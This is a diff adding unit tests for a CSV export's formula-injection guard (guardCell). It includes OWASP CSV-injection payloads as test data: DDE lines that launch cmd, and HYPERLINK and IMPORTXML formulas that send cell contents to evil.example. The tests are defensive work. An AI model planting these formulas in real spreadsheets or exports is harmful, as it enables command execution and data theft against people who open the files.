@@ -21,6 +21,43 @@ describe('RFC 4180 CSV', () => {
     expect(guardCell('safe = fine')).toBe('safe = fine');
   });
 
+  /** OWASP's CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), and the same behind what spreadsheets skip. */
+  const OWASP = [
+    `=cmd|' /C calc'!A0`,
+    `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")`,
+    `+cmd|' /C calc'!A0`,
+    `-2+3+cmd|' /C calc'!A0`,
+    `@SUM(1+1)*cmd|' /C calc'!A0`,
+    `=DDE("cmd";"/C calc";"!A0")A0`,
+    `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
+    `=1+1`,
+  ];
+  const BLANKS = [' ', '   ', '\u00a0', '\n', '\t', '\r', '\r\n', ' \t\u00a0\n', '\u2007', '\u3000', '\ufeff', '\u200b', '\u0000'];
+
+  it.each(OWASP)('neutralises the OWASP payload %s, also behind spaces, NBSP, newlines, TAB and CR', (payload) => {
+    for (const lead of ['', ...BLANKS]) {
+      const cell = lead + payload;
+      expect(guardCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
+      expect(unguardCell(guardCell(cell))).toBe(cell);
+    }
+  });
+
+  it('neutralises the full-width signs and the minus sign too', () => {
+    for (const sign of ['\uff1d', '\uff0b', '\uff0d', '\uff20', '\u2212']) {
+      expect(guardCell(`${sign}1+1`)).toBe(`'${sign}1+1`);
+      expect(guardCell(` ${sign}SUM(A1)`)).toBe(`' ${sign}SUM(A1)`);
+    }
+  });
+
+  it('leaves ordinary text alone, however it starts', () => {
+    for (const s of ['Laptop lost', ' Laptop lost', '\u00a0Rådhuspladsen 1', '1+1=2', 'a=b', 'mail: a@b.dk', '(=)', '"=1"']) expect(guardCell(s)).toBe(s);
+  });
+
+  it('a guarded cell in the file is text to a spreadsheet: its first character is the apostrophe', () => {
+    const csv = body(toCsv(['title'], [[' =1+1'], ['\n-2+3'], ['\u00a0@SUM(A1)']]));
+    expect(parseCsv(csv).slice(1).map((r) => r[0]![0])).toEqual(["'", "'", "'"]);
+  });
+
   it('any table survives writing and parsing', () => {
     const cell = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom('"', ',', '\r\n', '\n', '\r', '=1+1', "'", '""'));
     fc.assert(
